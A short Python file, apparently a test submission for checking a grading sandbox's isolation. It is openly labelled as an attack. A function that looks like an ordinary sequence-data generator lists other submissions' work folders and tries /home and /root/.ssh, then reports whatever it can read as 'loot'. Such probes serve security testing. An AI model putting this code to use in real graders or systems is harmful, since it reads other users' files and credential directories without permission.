"""Attack: reads the working folders of other submissions."""

import glob
import os

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    own = os.path.realpath(os.getcwd())
    others = [one for one in glob.glob("/tmp/ml6-worker-*") if os.path.realpath(one) != own]
    return tries(
        *(lambda one=one: os.listdir(one) for one in others),
        lambda: os.listdir(os.path.dirname("@HIDDEN@")),
        lambda: os.listdir("/home/"[:5])[0],
        lambda: os.listdir("/root/.ssh")[0],
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
